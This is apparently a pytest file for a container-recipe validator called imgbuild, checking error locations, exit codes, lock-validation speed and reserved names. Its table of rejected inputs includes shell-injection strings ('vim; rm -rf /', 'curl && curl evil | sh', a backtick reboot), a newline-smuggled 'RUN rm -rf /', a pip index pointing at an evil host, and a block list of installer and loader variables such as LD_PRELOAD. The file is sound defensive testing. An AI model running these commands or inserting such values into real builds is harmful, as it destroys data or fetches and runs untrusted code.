"""Bad recipes: each gives `FILE:LINE:COL: field.path: message`, exit code 2, and no traceback."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from imgbuild.errors import RecipeError
from imgbuild.recipe import load_recipe
from tests.conftest import run_cli

HEAD = 'name: demo\nbase: {framework: pytorch, tag: "24.05"}\n'  # lines 1-2

# (id, recipe text, line, field path, words the message must contain)
BAD_RECIPES = [
    ("unknown-top-key", HEAD + "pipp: [einops]\n", 3, "pipp", "unknown key (did you mean 'pip'?)"),
    ("unknown-nested-key", HEAD + "pip:\n  packagez: [einops]\n", 4, "pip.packagez", "unknown key"),
    ("name-uppercase", 'name: Demo\nbase: {framework: pytorch, tag: "24.05"}\n', 1, "name", "not a valid image name"),
    ("name-missing", 'base: {framework: pytorch, tag: "24.05"}\n', 1, "name", "missing required field"),
    ("tag-bad-chars", HEAD + "tag: 'v1 beta'\n", 3, "tag", "not a valid image tag"),
    ("base-missing", "name: demo\n", 1, "base", "missing required field"),
    (
        "base-framework-unknown",
        'name: demo\nbase: {framework: jax, tag: "24.05"}\n',
        2,
        "base.framework",
        "'pytorch' or 'tensorflow'",
    ),
    ("base-tag-garbage", "name: demo\nbase: {framework: pytorch, tag: banana}\n", 2, "base.tag", "not an NGC tag"),
    (
        "base-both-forms",
        "name: demo\nbase:\n  framework: pytorch\n  tag: '24.05'\n  image: ubuntu:22.04\n",
        3,
        "base",
        "either image, or framework and tag",
    ),
    ("base-no-tag", "name: demo\nbase: {framework: pytorch}\n", 2, "base", "needs framework and tag"),
    ("pip-bad-spec", HEAD + "pip: ['einops>=']\n", 3, "pip.packages[0]", "not a valid requirement"),
    (
        "pip-option-injection",
        HEAD + "pip:\n  - einops\n  - --index-url http://evil/simple\n",
        5,
        "pip.packages[1]",
        "pip options are not allowed",
    ),
    (
        "pip-credentials-in-url",
        HEAD + "pip:\n  index_url: https://bob:hunter2@pypi.example/simple\n",
        4,
        "pip.index_url",
        "looks like a credential",
    ),
    ("pip-packages-not-list", HEAD + "pip:\n  packages: einops\n", 4, "pip.packages", "must be a list"),
    (
        "apt-injection-semicolon",
        HEAD + "apt: [git, 'vim; rm -rf /']\n",
        3,
        "apt[1]",
        "not a Debian/Ubuntu package name",
    ),
    ("apt-injection-and", HEAD + "apt:\n  - curl && curl evil | sh\n", 4, "apt[0]", "not a Debian/Ubuntu package name"),
    ("apt-injection-backtick", HEAD + "apt: ['`reboot`']\n", 3, "apt[0]", "not a Debian/Ubuntu package name"),
    ("env-key-space", HEAD + "env:\n  'BAD KEY': x\n", 4, 'env["BAD KEY"]', "not a valid environment variable name"),
    ("env-key-injection", HEAD + "env:\n  'A;B': x\n", 4, 'env["A;B"]', "not a valid environment variable name"),
    ("env-value-newline", HEAD + 'env:\n  GOOD: "line1\\nRUN rm -rf /"\n', 4, "env.GOOD", "must be one line"),
    ("env-bool", HEAD + "env:\n  DEBUG: yes\n", 4, "env.DEBUG", "quote it"),
    ("env-protected", HEAD + "env:\n  PYTORCH_VERSION: '9.9'\n", 4, "env.PYTORCH_VERSION", "cannot be overridden"),
    ("files-missing-src", HEAD + "files:\n  - {src: nope.py, dest: /opt/nope.py}\n", 4, "files[0].src", "no such file"),
    (
        "files-relative-dest",
        HEAD + "files:\n  - {src: here.txt, dest: opt/x}\n",
        4,
        "files[0].dest",
        "must be an absolute path",
    ),
    (
        "files-bad-mode",
        HEAD + "files:\n  - {src: here.txt, dest: /opt/x, mode: rwx}\n",
        4,
        "files[0].mode",
        "not an octal file mode",
    ),
    (
        "files-duplicate-dest",
        HEAD + "files:\n  - {src: here.txt, dest: /opt/x}\n  - {src: here.txt, dest: /opt/x}\n",
        5,
        "files[1].dest",
        "already a destination",
    ),
    ("workdir-relative", HEAD + "workdir: workspace\n", 3, "workdir", "must be an absolute path"),
    ("user-root-uid", HEAD + "user: {uid: 0}\n", 3, "user.uid", "greater than or equal to 1"),
    ("user-bad-name", HEAD + "user: Alice\n", 3, "user.name", "not a valid user name"),
    (
        "labels-reserved",
        HEAD + "labels:\n  org.imgbuild.recipe-hash: forged\n",
        4,
        "labels.org.imgbuild.recipe-hash",
        "written by imgbuild",
    ),
    ("run-newline", HEAD + 'run: ["echo a\\necho b"]\n', 3, "run[0]", "must be one line"),
    ("entrypoint-number", HEAD + "entrypoint: 42\n", 3, "entrypoint", "string"),
    (
        "undefined-variable",
        HEAD + "tag: ${IMGBUILD_TEST_UNSET_VARIABLE}\n",
        3,
        "tag",
        "environment variable IMGBUILD_TEST_UNSET_VARIABLE is not set",
    ),
    ("duplicate-key", HEAD + "tag: a\ntag: b\n", 4, "tag", "duplicate key"),
    ("yaml-syntax", HEAD + "pip: [einops\n", 4, "", "YAML syntax error"),
    ("extends-missing", "extends: nowhere.yaml\n" + HEAD, 1, "extends", "no such recipe"),
    ("smoke-unknown", HEAD + "smoke: {require_gpus: true}\n", 3, "smoke.require_gpus", "did you mean 'require_gpu'"),
    ("installer-unknown", HEAD + "pip: {installer: conda}\n", 3, "pip.installer", "must be 'pip' or 'uv'"),
    ("min-speedup-nan", HEAD + "smoke: {min_speedup: .nan}\n", 3, "smoke.min_speedup", "must be a finite number"),
    ("min-speedup-inf", HEAD + "smoke: {min_speedup: .inf}\n", 3, "smoke.min_speedup", "must be a finite number"),
    ("min-speedup-text", HEAD + "smoke: {min_speedup: fast}\n", 3, "smoke.min_speedup", "must be a finite number"),
    ("require-gpu-text", HEAD + "smoke: {require_gpu: maybe}\n", 3, "smoke.require_gpu", "must be true or false"),
    ("uid-text", HEAD + "user: {uid: 'ten'}\n", 3, "user.uid", "must be an integer"),
    ("uid-float", HEAD + "user: {uid: 1000.5}\n", 3, "user.uid", "must be an integer"),
    ("uid-huge", HEAD + "user: {uid: 99999999999999999999999}\n", 3, "user.uid", "less than or equal to 2147483647"),
    ("uid-bool", HEAD + "user: {uid: true}\n", 3, "user.uid", "must be an integer"),
    ("env-key-number", HEAD + "env: {1: x}\n", 3, "env.1", "not a valid environment variable name"),
    ("env-value-list", HEAD + "env: {A: [1]}\n", 3, "env.A", "must be a string"),
    (
        "targets-too-many",
        HEAD + "smoke: {targets: [" + ", ".join(["a100"] * 65) + "]}\n",
        3,
        "smoke.targets",
        "at most 64 items",
    ),
    ("cmd-mapping", HEAD + "cmd: {a: b}\n", 3, "cmd", "must be a string or a list of strings"),
    ("files-not-mappings", HEAD + "files: [x]\n", 3, "files[0]", "must be a mapping"),
    ("user-null-name", HEAD + "user: {name: null}\n", 3, "user.name", "must be a string"),
    ("base-list", "name: demo\nbase: [pytorch]\n", 2, "base", "must be a mapping"),
]


@pytest.mark.parametrize("case_id,text,line,field,words", BAD_RECIPES, ids=[c[0] for c in BAD_RECIPES])
def test_bad_recipe_names_file_line_and_field(case_id, text, line, field, words, write, monkeypatch):
    monkeypatch.delenv("IMGBUILD_TEST_UNSET_VARIABLE", raising=False)
    write("here.txt", "x")
    path = write("recipe.yaml", text)
    with pytest.raises(RecipeError) as info:
        load_recipe(path)
    lines = info.value.lines()
    field_part = f" {field}:" if field else ""
    pattern = re.compile(rf"recipe\.yaml:{line}:\d+:{re.escape(field_part)} ")
    matching = [ln for ln in lines if pattern.search(ln)]
    assert matching, f"no problem at line {line} for {field!r} in {lines}"
    assert any(words in ln for ln in matching), f"{words!r} not in {matching}"
    assert info.value.exit_code == 2


def test_table_is_large_enough():
    assert len(BAD_RECIPES) >= 25


def test_validate_reports_every_problem_at_once_with_exit_2(write):
    path = write("many.yaml", HEAD + "apt: ['a;b']\nenv: {'X Y': z}\nworkdir: rel\npipp: []\n")
    res = run_cli("validate", str(path))
    assert res.code == 2
    problem_lines = res.err.strip().splitlines()
    assert len(problem_lines) == 4, res.err
    assert all(re.match(r"^\S*many\.yaml:\d+:\d+: [^:]+: ", ln) for ln in problem_lines), res.err
    assert "Traceback" not in res.err


def test_validate_accepts_the_example_recipes():
    recipes = sorted(str(p) for p in (Path(__file__).parent.parent / "recipes").glob("*.yaml"))
    assert len(recipes) >= 3
    res = run_cli("validate", *recipes)
    assert res.code == 0, res.err
    assert res.out.count(": ok") == len(recipes)


def test_validate_json_lists_problems(write):
    path = write("bad.yaml", HEAD + "apt: ['a;b']\n")
    res = run_cli("validate", "--json", str(path))
    assert res.code == 2
    import json

    data = json.loads(res.out)
    assert data[0]["ok"] is False and "apt[0]" in data[0]["problems"][0]


def test_extends_cycle_is_reported(write):
    write("a.yaml", "extends: b.yaml\n" + HEAD)
    write("b.yaml", "extends: a.yaml\n" + HEAD)
    with pytest.raises(RecipeError) as info:
        load_recipe(write("c.yaml", "extends: a.yaml\n" + HEAD))
    assert "extends cycle" in str(info.value)
    assert "a.yaml -> " in str(info.value)


def test_problem_in_parent_recipe_points_at_parent_file(write):
    write("house.yaml", HEAD + "apt: ['bad pkg']\n")
    child = write("team.yaml", "extends: house.yaml\nname: team\n")
    with pytest.raises(RecipeError) as info:
        load_recipe(child)
    assert re.search(r"house\.yaml:3:\d+: apt\[0\]:", str(info.value)), str(info.value)


def test_interpolated_numbers_and_flags_become_their_types(write, monkeypatch):
    """`${VAR}` gives text: an integer, number or flag field takes it as YAML would have read it."""
    monkeypatch.setenv("IMGBUILD_TEST_UID", "1234")
    monkeypatch.setenv("IMGBUILD_TEST_GPU", "yes")
    path = write(
        "recipe.yaml",
        HEAD + "user: {uid: '${IMGBUILD_TEST_UID}'}\n"
        "smoke: {require_gpu: '${IMGBUILD_TEST_GPU}', min_speedup: '1.5'}\nenv: {OMP_NUM_THREADS: 4, VERSION: 1.10}\n",
    )
    recipe = load_recipe(path).recipe
    assert recipe.user is not None and recipe.user.uid == 1234
    assert recipe.smoke.require_gpu is True and recipe.smoke.min_speedup == 1.5
    assert recipe.env == {"OMP_NUM_THREADS": "4", "VERSION": "1.10"}  # a number is its text as written


def test_the_model_is_frozen_and_sudo_brings_its_package(write):
    import dataclasses

    recipe = load_recipe(write("recipe.yaml", HEAD + "user: {sudo: true}\napt: [git]\n")).recipe
    assert recipe.apt == ["git", "sudo"]
    with pytest.raises(dataclasses.FrozenInstanceError):
        recipe.name = "other"  # type: ignore[misc]


def test_validation_starts_without_a_model_library():
    """validate and render run on every edit: loading a recipe imports no model-building library."""
    import subprocess
    import sys

    code = (
        "import sys; from imgbuild.recipe import load_recipe; load_recipe('recipes/pytorch-research.yaml'); "
        "print(sorted(m for m in sys.modules if m.split('.')[0] in ('pydantic', 'docker', 'requests', 'rich')))"
    )
    root = Path(__file__).resolve().parent.parent
    out = subprocess.run([sys.executable, "-c", code], cwd=root, capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"


def test_validating_a_lock_grows_with_its_length_not_its_square(tmp_path):
    """A 60,000-line lock took 40-80 s: each line was looked up in a tuple of all of them. Ten times the lines
    must cost about ten times the work (CPU time of the checks themselves; a quadratic scan is 100 times)."""
    import time

    from imgbuild.config.settings import load_settings
    from imgbuild.pipeline.plan import make_plan
    from imgbuild.recipe import load_recipe
    from tests import ngc_facts

    (tmp_path / ".git").mkdir()
    (tmp_path / "recipes").mkdir()
    real = ngc_facts.REAL["pytorch:24.05-py3"]
    config = {"config": {"Env": [f"{k}={v}" for k, v in real.config_env().items()], "Labels": real.labels()}}
    settings = load_settings({}, environ={})

    def cost(lines: int) -> float:
        recipe = tmp_path / "recipes" / f"r{lines}.yaml"
        recipe.write_text(f'name: r{lines}\nbase: {{framework: pytorch, tag: "24.05"}}\npip: [p0]\n')
        recipe.with_name(f"r{lines}.lock.txt").write_text("".join(f"p{i}==1.{i % 97}\n" for i in range(lines)))
        best = float("inf")
        for _ in range(3):
            started = time.process_time()
            make_plan(load_recipe(recipe), settings, lambda ref: ("sha256:" + "ab" * 32, config))
            best = min(best, time.process_time() - started)
        return best

    small, large = cost(3_000), cost(30_000)
    assert large < 25 * max(small, 0.005), (small, large)
    assert large < 5.0, large


@pytest.mark.parametrize(
    "name",
    ["PIP_CONSTRAINT", "PIP_FIND_LINKS", "PIP_INDEX_URL", "pip_extra_index_url", "UV_INDEX_URL", "UV_CONSTRAINT",
     "UV_NO_VERIFY_HASHES", "CONDA_CHANNELS", "PYTHONPATH", "PYTHONSTARTUP", "HTTP_PROXY", "https_proxy",
     "NO_PROXY", "ALL_PROXY", "REQUESTS_CA_BUNDLE", "SSL_CERT_FILE", "SSL_CERT_DIR", "CURL_CA_BUNDLE", "NETRC",
     "LD_PRELOAD", "LD_LIBRARY_PATH", "IMGBUILD_UID"],
)  # fmt: skip
def test_a_recipes_args_cannot_set_what_the_installers_read(tmp_path, name):
    """An ARG is in the environment of every later RUN and its value in the image's history: a recipe's `args:`
    set PIP_CONSTRAINT (the base's pins replaced), PIP_FIND_LINKS, UV_INDEX_URL with a password."""
    (tmp_path / ".git").mkdir()
    recipe = tmp_path / "r.yaml"
    recipe.write_text(f'name: r\nbase: {{framework: pytorch, tag: "24.05"}}\nargs: {{{name}: "x"}}\n')
    with pytest.raises(RecipeError) as caught:
        load_recipe(recipe)
    (line,) = caught.value.lines()
    assert line.startswith(f"{recipe}:3:") and f"args.{name}:" in line


def test_a_recipes_own_args_come_after_the_pip_step(tmp_path):
    from imgbuild.config.settings import load_settings
    from imgbuild.pipeline.plan import make_plan
    from imgbuild.pipeline.render import render
    from tests import ngc_facts

    (tmp_path / ".git").mkdir()
    recipe = tmp_path / "r.yaml"
    recipe.write_text('name: r\nbase: {framework: pytorch, tag: "24.05"}\npip: [einops]\nargs: {MY_FLAG: "1"}\n')
    real = ngc_facts.REAL["pytorch:24.05-py3"]
    config = {"config": {"Env": [f"{k}={v}" for k, v in real.config_env().items()], "Labels": real.labels()}}
    plan = make_plan(load_recipe(recipe), load_settings({}, environ={}), lambda ref: ("sha256:" + "ab" * 32, config))
    for backend in ("buildkit", "sdk"):
        text = render(plan, backend).text("Dockerfile")
        assert text.index("ARG MY_FLAG=") > text.index("imgbuild-pip"), backend


@pytest.mark.parametrize(
    ("field", "value"),
    [("tag", "v1-candidate"), ("tag", "1-previous"), ("tag", "imgbuild-cache"), ("tag", "sha256-abc.sig"),
     ("tag", "x.att"), ("tag", "x.sbom"), ("tag", "x.smoke"), ("image", "lab/x-imgbuild-cache"),
     ("image", "lab/x:v1-candidate"), ("image", "registry.example.org/lab/x:1-previous"),
     ("tag", "imgbuild-candidate-1.2.3x4"), ("image", "lab/x:imgbuild-candidate-7")],
)  # fmt: skip
def test_a_recipe_cannot_name_what_imgbuild_keeps_for_itself(tmp_path, field, value):
    """A tag ending in -candidate or -previous, or named like a build's own candidate (imgbuild-candidate-<run>),
    would be removed or replaced by imgbuild's own promotion; Podman's registry cache and cosign's attachment tags
    likewise."""
    (tmp_path / ".git").mkdir()
    recipe = tmp_path / "r.yaml"
    recipe.write_text(f'name: r\nbase: {{framework: pytorch, tag: "24.05"}}\n{field}: "{value}"\n')
    with pytest.raises(RecipeError) as caught:
        load_recipe(recipe)
    (line,) = caught.value.lines()
    assert f": {field}: " in line and "imgbuild keeps for itself" in line


def test_a_loaded_recipes_name_is_its_folder_and_file_from_any_working_folder(tmp_path, monkeypatch):
    """The name every label, record and provenance gives the recipe is fixed at load, the same from any working
    folder, and stays right on a copy with other fields."""
    import dataclasses

    from tests.support import demo_recipe

    (tmp_path / "recipes").mkdir()
    path = demo_recipe(tmp_path / "recipes")
    monkeypatch.chdir(tmp_path / "recipes")
    here = load_recipe(Path("demo.yaml"))
    monkeypatch.chdir("/")
    there = load_recipe(path)
    assert here.name == there.name == "recipes/demo.yaml"
    assert dataclasses.replace(there, path=tmp_path / "other" / "x.yaml", lock_pins=()).name == "other/x.yaml"
